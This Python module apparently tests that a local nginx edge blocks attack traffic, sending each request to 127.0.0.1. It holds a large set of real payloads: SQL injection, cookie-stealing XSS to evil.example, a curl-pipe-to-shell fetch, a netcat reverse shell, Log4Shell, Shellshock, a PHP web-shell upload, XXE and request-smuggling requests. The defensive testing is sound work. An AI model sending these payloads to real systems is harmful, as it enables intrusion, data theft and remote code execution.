"""What an attacker sends, as bytes: the list that no process of ours is to see, since the edge before it says no."""

import socket
import ssl
from collections.abc import Iterator
from dataclasses import dataclass
from http.client import HTTPException, HTTPResponse
from urllib.parse import quote

WITHIN_S = 20.0
# What only the edge says: nginx' own pages, and problems of charts/lib/files/edge/words.conf.
_EDGES = (b"<center>nginx</center>", b'"title":"This request was stopped"', b'"title":"This is too much at once"')
_BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
_FORM, _JSON = "application/x-www-form-urlencoded", "application/json"

# As one would try them in any field.
_VALUES = {
    "sqli": (
        "1' OR '1'='1 --",
        "1 UNION SELECT email, password_hash FROM people--",
        "'; DROP TABLE links;--",
        "1 AND SLEEP(5)",
        "1' AND (SELECT pg_sleep(5)) IS NOT NULL--",
        "admin'/**/OR/**/1=1#",
        "1;SELECT * FROM information_schema.tables",
        "-1' UNION ALL SELECT NULL,NULL,version()--",
    ),
    "xss": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "\"><iframe src=javascript:alert(1)>",
        "javascript:alert(document.domain)",
    ),
    "traversal": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/shadow",
        "/proc/self/environ",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/root/.ssh/id_rsa",
    ),
    "rce": (
        ";cat /etc/passwd",
        "$(curl http://evil.example/x.sh|sh)",
        "`/bin/id`",
        "| nc -e /bin/sh 203.0.113.9 4444",
        "; powershell -enc SQBFAFgA",
        "() { :;}; /bin/bash -c 'ping 203.0.113.9'",
        "<?php system($_GET['c']); ?>",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "require('child_process').exec('id')",
        "${jndi:ldap://evil.example/a}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ),
    "inclusion": ("http://203.0.113.9/shell.txt?", "file:///etc/passwd", "php://filter/resource=index"),
    "splitting": ("x\r\nSet-Cookie: s=evil", "x\r\n\r\n<html>"),
}  # fmt: skip
_SCANNERS = (
    "sqlmap/1.8#stable",
    "Nikto/2.5.0",
    "masscan/1.3",
    "Nmap Scripting Engine",
    "w3af.org",
    "Nuclei - x nessus",
)
_FILES = (
    "/.git/config", "/.env", "/.htpasswd", "/backup.sql", "/w/acme/library.bak", "/static/%2e%2e/%2e%2e/etc/passwd",
    "/..%252f..%252fetc/passwd", "/static/..%c0%af..%c0%afetc/passwd", "/wp-config.php", "/etc/passwd%00.html",
)  # fmt: skip


@dataclass(frozen=True)
class Attack:
    """One request: what it is, and its bytes, with a host still to be put in."""

    name: str
    text: bytes

    def to(self, host: str) -> bytes:
        """Its bytes for that host."""
        return self.text.replace(b"{HOST}", host.encode())


def attacks(path: str = "/w/acme/library") -> Iterator[Attack]:
    """All of them; those that put something into a field do so at that path."""
    for kind, values in _VALUES.items():
        for value in values:
            yield Attack(f"{kind} in a query: {value!r}", _request("GET", f"{path}?page={quote(value, safe='')}"))
            yield Attack(f"{kind} in a form: {value!r}", _sent("POST", path, f"email={quote(value, safe='')}", _FORM))
    for value in (_VALUES["sqli"][0], _VALUES["rce"][0], _VALUES["xss"][0]):
        escaped = value.replace('"', '\\"')
        yield Attack(f"in JSON: {value!r}", _sent("POST", path, f'{{"page": {{"of": ["{escaped}"]}}}}', _JSON))
        yield Attack(f"in a cookie: {value!r}", _request("GET", path, f"Cookie: theme={quote(value)}"))
    for agent in _SCANNERS:
        yield Attack(f"scanner {agent}", _request("GET", path, agent=agent))
    for file in _FILES:
        yield Attack(f"file {file}", _request("GET", file))
    yield from _headers(path)
    yield from _protocol(path)


def _headers(path: str) -> Iterator[Attack]:
    yield Attack("log4shell in an agent", _request("GET", path, agent="${jndi:ldap://evil.example/a}"))
    yield Attack("shellshock in an agent", _request("GET", path, agent="() { :;}; /bin/bash -c id"))
    yield Attack("shellshock in a referrer", _request("GET", path, "Referer: () { :;}; /bin/bash -c id"))
    yield Attack("httpoxy", _request("GET", path, "Proxy: http://evil.example"))
    yield Attack("oversized header", _request("GET", path, f"X-Large: {'a' * 20_000}"))
    yield Attack("too many headers", _request("GET", path, *(f"X-{n}: {'a' * 4000}" for n in range(40))))
    yield Attack("oversized address", _request("GET", f"{path}?page={'a' * 40_000}"))
    yield Attack("another host", _request("GET", path).replace(b"{HOST}", b"evil.example"))
    yield Attack("no host", _request("GET", path).replace(b"Host: {HOST}\r\n", b""))


def _protocol(path: str) -> Iterator[Attack]:
    for method in ("TRACE", "CONNECT", "PROPFIND", "DEBUG"):
        yield Attack(f"method {method}", _request(method, path))
    inner = b"GET /w/acme/people HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
    post = f"POST {path} HTTP/1.1\r\nHost: {{HOST}}\r\nUser-Agent: {_BROWSER}\r\nAccept: */*\r\n".encode()
    both = f"Content-Length: {len(inner) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
    yield Attack("smuggling by both lengths", post + both + inner)
    yield Attack("smuggling by two lengths", post + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + inner)
    yield Attack("smuggling by an odd encoding", post + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + inner)
    yield Attack("smuggling by a bad length", post + b"Content-Length: +4\r\n\r\nabcd" + inner)
    yield Attack("smuggling by a space before the colon", post + b"Content-Length : 4\r\n\r\nabcd" + inner)
    yield Attack("a bad chunk", post + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n")
    yield Attack("HTTP/0.9", f"GET {path}\r\n".encode())
    yield Attack("no HTTP at all", b"\x16\x03\x01\x00\xff" * 9 + b"\r\n\r\n")
    yield Attack("a body that is too large", _sent("POST", path, "a" * (6 << 20), _FORM))
    yield Attack("a body that is no JSON", _sent("POST", path, '{"page": ', _JSON))
    entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield Attack("an XML entity", _sent("POST", path, entity, "application/xml"))
    part = 'Content-Disposition: form-data; name="file"; filename="shell.php"\r\n\r\n<?php system("id"); ?>\r\n'
    yield Attack(
        "a script as a file", _sent("POST", path, f"--x\r\n{part}--x--\r\n", "multipart/form-data; boundary=x")
    )
    yield Attack("a null byte", _request("GET", f"{path}?page=a%00b"))


def _request(method: str, path: str, *headers: str, agent: str = _BROWSER, body: str = "") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: {HOST}", f"User-Agent: {agent}", "Accept: */*", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def _sent(method: str, path: str, body: str, kind: str) -> bytes:
    return _request(method, path, f"Content-Type: {kind}", f"Content-Length: {len(body.encode())}", body=body)


def passes(attack: Attack, port: int, host: str, trust: ssl.SSLContext) -> bool:
    """Send it to an edge on this machine; whether something behind it answered, in place of the edge itself."""
    plain = socket.create_connection(("127.0.0.1", port), WITHIN_S)
    with trust.wrap_socket(plain, server_hostname=host) as line:
        try:
            line.sendall(attack.to(f"{host}:{port}"))
            answer = HTTPResponse(line)
            answer.begin()
            said = answer.read()
            return not any(words in said for words in _EDGES)
        except (ConnectionError, ssl.SSLError, HTTPException):  # it hung up on us
            return False
